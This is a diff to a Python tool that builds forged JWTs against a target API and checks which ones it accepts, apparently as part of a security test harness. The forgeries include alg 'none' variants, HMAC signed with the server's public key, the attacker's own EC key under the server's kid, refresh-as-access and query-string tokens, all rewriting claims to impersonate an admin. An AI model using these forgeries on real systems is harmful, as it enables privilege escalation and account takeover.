@@ -79,9 +79,9 @@ def public_forms(jwk: Mapping[str, Any]) -> dict[str, bytes]:
     return forms
 
 
-def forgeries(target: Target, pair: Pair, jwks: list[dict[str, Any]]) -> Iterator[Forgery]:
-    """All of them, for one genuine token."""
-    for name, token in _tokens(target, pair, jwks):
+def forgeries(target: Target, pair: Pair, admin: str, jwks: list[dict[str, Any]]) -> Iterator[Forgery]:
+    """All of them, for one genuine pair of tokens; `admin` is how tokens name the user who is wanted."""
+    for name, token in _tokens(target, pair, admin, jwks):
         yield Forgery(name, bearer(token))
     genuine = bearer(pair.access)
     yield Forgery("a refresh token as access token", bearer(pair.refresh))
@@ -94,13 +94,13 @@ def forgeries(target: Target, pair: Pair, jwks: list[dict[str, Any]]) -> Iterato
     yield Forgery("in the query string", (), f"/api/profile/?access_token={pair.access}")
 
 
-def _tokens(target: Target, pair: Pair, jwks: list[dict[str, Any]]) -> Iterator[tuple[str, str]]:
+def _tokens(target: Target, pair: Pair, wanted: str, jwks: list[dict[str, Any]]) -> Iterator[tuple[str, str]]:
     head, body, signature = pair.access.split(".")
     header, claims = json.loads(decode(head)), json.loads(decode(body))
     # An attacker wants to be somebody else: whichever claim names the user, and whatever rights stand in it.
     admin = {
         **claims,
-        **{key: target.admin_id for key in ("sub", "user_id") if key in claims},
+        **{key: wanted for key in ("sub", "user_id") if key in claims},
         "scope": "admin",
     }
     for spelling in ("none", "None", "NONE", "nOnE", ""):
@@ -122,9 +122,8 @@ def _tokens(target: Target, pair: Pair, jwks: list[dict[str, Any]]) -> Iterator[
                 yield f"{alg} with the public key {form}", with_mac({**header, "alg": alg}, admin, key)
     own = ec.generate_private_key(ec.SECP256R1())
     numbers = own.public_key().public_numbers()
-    mine = {
-        "kty": "EC", "crv": "P-256", "x": encode(numbers.x.to_bytes(32, "big")), "y": encode(numbers.y.to_bytes(32, "big")),
-    }  # fmt: skip
+    x, y = (encode(number.to_bytes(32, "big")) for number in (numbers.x, numbers.y))
+    mine = {"kty": "EC", "crv": "P-256", "x": x, "y": y}
     signed = {**header, "alg": "ES256"}
     yield "own key under their kid", with_own_key(signed, admin, own)
     yield "own key, unknown kid", with_own_key({**signed, "kid": "mine"}, admin, own)
@@ -173,7 +172,8 @@ def forged(target: Target) -> Outcome:
     if not here.admits(pair.access):
         raise AttackError("a genuine access token was refused")
     jwks = here.get("/.well-known/jwks.json").json().get("keys", [])
-    kinds = list(forgeries(here, pair, jwks))
+    admin = json.loads(decode(here.login("admin").access.split(".")[1]))
+    kinds = list(forgeries(here, pair, str(admin.get("sub") or admin.get("user_id")), jwks))
     admitted, broken = [], []
     for kind in kinds:
         answer = target.elsewhere().send(Request("GET", kind.path, headers=kind.headers))
